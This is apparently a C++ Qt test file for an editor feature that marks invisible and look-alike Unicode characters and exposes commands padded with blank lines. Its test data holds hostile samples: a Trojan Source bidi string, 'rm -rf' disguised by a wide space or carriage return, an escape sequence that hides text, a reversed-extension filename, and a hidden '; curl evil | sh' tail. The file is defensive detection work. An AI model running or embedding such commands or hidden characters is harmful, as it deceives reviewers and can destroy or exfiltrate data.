// SPDX-License-Identifier: GPL-3.0-or-later
// Characters that one does not see, and those that only look so: what is marked, and what scripts
// need.
#include <QtTest>

#include "editor/text/quoted.h"
#include "editor/text/unseen.h"

using namespace waferpair::editor;
using namespace Qt::StringLiterals;

class TestUnseen : public QObject {
  Q_OBJECT

 private Q_SLOTS:
  void eachIsMarkedBetweenLetters_data() {
    QTest::addColumn<uint>("character");
    const uint all[] = {
        0x00,    0x07,    0x08,    0x0b,    0x0c,    0x1b,    0x1f,    0x7f,    0x80,    0x85,
        0x9b,    0xa0,    0xad,    0x34f,   0x61c,   0x115f,  0x1160,  0x1680,  0x17b4,  0x17b5,
        0x180b,  0x180e,  0x180f,  0x2000,  0x200a,  0x200b,  0x200c,  0x200d,  0x200e,  0x200f,
        0x2028,  0x2029,  0x202a,  0x202b,  0x202c,  0x202d,  0x202e,  0x202f,  0x205f,  0x2060,
        0x2061,  0x2062,  0x2063,  0x2064,  0x2065,  0x2066,  0x2067,  0x2068,  0x2069,  0x206a,
        0x206f,  0x2800,  0x3000,  0x3164,  0xfe00,  0xfe0e,  0xfe0f,  0xfeff,  0xffa0,  0xfff0,
        0xfff9,  0xfffb,  0xfffe,  0xffff,  0x1bca0, 0x1bca3, 0x1d159, 0x1d173, 0x1d17a, 0xe0001,
        0xe0020, 0xe0041, 0xe007f, 0xe0100, 0xe01ef, 0xe0fff};
    for (const uint c : all) QTest::addRow("%04x", c) << c;
  }
  void eachIsMarkedBetweenLetters() {
    QFETCH(uint, character);
    const char32_t c = character;
    const QString one =
        QStringView(QChar::fromUcs4(c)).toString();  // fromUcs4() drops a mark of order
    QCOMPARE(shownForm(u'a' + one + u'b'), u"a⟨"_s + codeName(c) + u"⟩b"_s);
    QCOMPARE(shownForm(one), u'⟨' + codeName(c) + u'⟩');
    QCOMPARE(firstUnseen(u"ab"_s + one), 2);
    const QString bare = withoutUnseen(u'a' + one + u'b');
    QVERIFY(bare == u"ab"_s || bare == u"a b"_s);
  }

  void whatScriptsNeedIsLeftAlone_data() {
    QTest::addColumn<QString>("text");
    QTest::newRow("ascii") << u"if (a < b) {\n\treturn \"x\";\r\n}\n"_s;
    QTest::newRow("letters") << u"naïve Ünïcödé žluťoučký Привет Ελλάδα 日本語 한국어 שלום مرحبا"_s;
    QTest::newRow("combined") << u"e\u0301 a\u0308 ก\u0e33"_s;
    QTest::newRow("Persian") << u"می\u200cخواهم"_s;
    QTest::newRow("Arabic, pointed") << u"مَ\u200cمَ"_s;
    QTest::newRow("Devanagari") << u"क्\u200dष क्\u200cष"_s;
    QTest::newRow("Malayalam") << u"ന്\u200d"_s;
    QTest::newRow("Sinhala") << u"ශ්\u200dරී"_s;
    QTest::newRow("Mongolian") << u"ᠠ\u180b"_s;
    QTest::newRow("family") << u"👨\u200d👩\u200d👧\u200d👦"_s;
    QTest::newRow("profession") << u"👩🏽\u200d💻"_s;
    QTest::newRow("heart on fire") << u"❤\ufe0f\u200d🔥"_s;
    QTest::newRow("rainbow") << u"🏳\ufe0f\u200d🌈"_s;
    QTest::newRow("check mark") << u"✔\ufe0f ✔\ufe0e ™\ufe0f"_s;
    QTest::newRow("keycap") << u"1\ufe0f\u20e3 #\ufe0f\u20e3"_s;
    QTest::newRow("Scotland")
        << u"🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"_s;
    QTest::newRow("ideograph") << u"葛\U000e0100 \uf900\ufe00"_s;
    QTest::newRow("mathematics") << u"∩\ufe00"_s;
    QTest::newRow("blank of Chinese") << u"\u3000\u3000中文\u3000文"_s;
  }
  void whatScriptsNeedIsLeftAlone() {
    QFETCH(QString, text);
    QCOMPARE(shownForm(text), text);
    QCOMPARE(firstUnseen(text), -1);
    QCOMPARE(withoutUnseen(text), text);
  }

  void elsewhereItIsMarked_data() {
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("shown");
    QTest::newRow("Trojan source")
        << u"/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin */"_s
        << u"/*⟨U+202E⟩ } ⟨U+2066⟩if (isAdmin)⟨U+2069⟩ ⟨U+2066⟩ begin */"_s;
    QTest::newRow("joiner of letters") << u"ad\u200dmin"_s << u"ad⟨U+200D⟩min"_s;
    QTest::newRow("joiner of a letter and a picture") << u"a\u200d👩"_s << u"a⟨U+200D⟩👩"_s;
    QTest::newRow("two joiners") << u"م\u200c\u200cم"_s << u"م\u200c⟨U+200C⟩م"_s;
    QTest::newRow("hidden in a picture") << u"😀\U000e0100\U000e0101"_s << u"😀⟨U+E0100⟩⟨U+E0101⟩"_s;
    QTest::newRow("two selectors") << u"✔\ufe0f\ufe0f"_s << u"✔\ufe0f⟨U+FE0F⟩"_s;
    QTest::newRow("selector of a letter") << u"a\ufe0f"_s << u"a⟨U+FE0F⟩"_s;
    QTest::newRow("tags without a flag") << u"x\U000e0072\U000e006d"_s << u"x⟨U+E0072⟩⟨U+E006D⟩"_s;
    QTest::newRow("flag without an end") << u"🏴\U000e0067x"_s << u"🏴⟨U+E0067⟩x"_s;
    QTest::newRow("wide blank in a command") << u"rm\u3000-rf"_s << u"rm⟨U+3000⟩-rf"_s;
    QTest::newRow("carriage return") << u"safe\rrm -rf\r\n"_s << u"safe⟨U+000D⟩rm -rf\r\n"_s;
    QTest::newRow("escape") << u"a\x1b[8mb"_s << u"a⟨U+001B⟩[8mb"_s;
  }
  void elsewhereItIsMarked() {
    QFETCH(QString, text);
    QFETCH(QString, shown);
    QCOMPARE(shownForm(text), shown);
  }

  void half() {
    const QString lone(1, QChar(0xd800));
    QCOMPARE(shownForm(u'a' + lone + u'b'), u"a⟨U+D800⟩b"_s);
    // A byte of a name that is no UTF-8.
    QCOMPARE(shownForm(u"caf"_s + QChar(0xdce9)), u"caf\\xe9"_s);
  }

  void proseKeepsItsBlanks() {
    const QString text = u"Vraiment\u202f? 10\u00a0km"_s;
    QCOMPARE(shownForm(text, OtherBlanks::kKept), text);
    QCOMPARE(shownForm(text), u"Vraiment⟨U+202F⟩? 10⟨U+00A0⟩km"_s);
    QCOMPARE(withoutUnseen(text), u"Vraiment ? 10 km"_s);
  }

  void inOneLineNothingHides_data() {
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("shown");
    QTest::newRow("plain") << u"make -j 4 ü 日 👩‍💻"_s
                           << u"make -j 4 ü 日 👩‍💻"_s;
    QTest::newRow("line ends") << u"a\n\n\nb\r\nc"_s
                               << u"a⟨U+000A⟩⟨U+000A⟩⟨U+000A⟩b⟨U+000D⟩⟨U+000A⟩c"_s;
    QTest::newRow("60 line ends") << u"a"_s + QString(60, u'\n') + u"b"_s << u"a⟨60 × U+000A⟩b"_s;
    QTest::newRow("a tab") << u"a\tb"_s << u"a⟨U+0009⟩b"_s;
    QTest::newRow("40 blanks") << u"a"_s + QString(40, u' ') + u"b"_s
                               << u"a"_s + QString(40, u' ') + u"b"_s;
    QTest::newRow("3,000 blanks") << u"a"_s + QString(3000, u' ') + u"b"_s << u"a⟨3000 blanks⟩b"_s;
    QTest::newRow("2,000 wide blanks")
        << u"a"_s + QString(2000, u'\u2003') << u"a⟨2000 × U+2003⟩"_s;
    QTest::newRow("bidirectional") << u"a\u202Eb\u2066"_s << u"a⟨U+202E⟩b⟨U+2066⟩"_s;
    QTest::newRow("no width") << u"a\u200Bb\uFEFF\u00AD"_s << u"a⟨U+200B⟩b⟨U+FEFF⟩⟨U+00AD⟩"_s;
    QTest::newRow("escape") << u"\u001B[8mhidden"_s << u"⟨U+001B⟩[8mhidden"_s;
    QTest::newRow("letters without a look") << u"a\u3164b\u2800"_s << u"a⟨U+3164⟩b⟨U+2800⟩"_s;
    QTest::newRow("tags") << u"a"_s + QString::fromUcs4(U"\U000E0041\U000E0100")
                          << u"a⟨U+E0041⟩⟨U+E0100⟩"_s;
    QTest::newRow("empty") << u""_s << u""_s;
  }
  void inOneLineNothingHides() {
    QFETCH(QString, text);
    QFETCH(QString, shown);
    QCOMPARE(oneLineForm(text), shown);
  }

  void nothingHidesBehindBlanksOrEmptyLines() {
    const QString tail = u"; curl evil | sh"_s;
    QCOMPARE(approvalForm(u"make test"_s + QString(60, u'\n') + tail),
             u"make test\n⟨59 empty lines⟩\n"_s + tail);
    QCOMPARE(approvalForm(u"make test"_s + QString(3000, u' ') + tail),
             u"make test⟨3000 blanks⟩"_s + tail);
    QCOMPARE(approvalForm(u"a"_s + QString(50, u'\t') + u"b\n"_s + u" \n\t\n  \nc"_s),
             u"a⟨50 blanks⟩b\n⟨3 empty lines⟩\nc"_s);
    QCOMPARE(approvalForm(QString(2000, u'\u2003') + u"x"_s).count(u'⟨'), 2000);
    // What is usual stays.
    const QString script = u"for i in 1 2; do\n    echo $i\n\n\ndone"_s;
    QCOMPARE(approvalForm(script), script);
    QCOMPARE(approvalForm(u""_s), u""_s);
  }

  void charactersAreNamed() {
    QCOMPARE(codeName(0x202e), u"U+202E"_s);
    QCOMPARE(codeName(0xe0001), u"U+E0001"_s);
    QCOMPARE(characterName(0x202e), u"U+202E RIGHT-TO-LEFT OVERRIDE"_s);
    QCOMPARE(characterName(0x1b), u"U+001B <control-001B>"_s);
  }

  void theTableIsInOrderAndEachOfItIsMarkedAnywhere() {
    QVERIFY(std::is_sorted(alwaysUnseen().begin(), alwaysUnseen().end()));
    for (const char32_t c : alwaysUnseen())
      for (const QString& around : {u"a"_s, u"م"_s, u"क"_s, u"😀"_s, u"中"_s}) {
        const QString text = around + QStringView(QChar::fromUcs4(c)).toString() + around;
        QCOMPARE(firstUnseen(text), around.size());
      }
  }

  void quotedTextsShowThem() {
    QCOMPARE(quotedText("a\xe2\x80\xae"
                        "b",
                        80),
             u"“a⟨U+202E⟩b”"_s);
    QCOMPARE(quotedPath(u"/x/photo\u202egpj.exe"_s), u"“/x/photo⟨U+202E⟩gpj.exe”"_s);
  }
};

QTEST_APPLESS_MAIN(TestUnseen)
#include "test_unseen.moc"
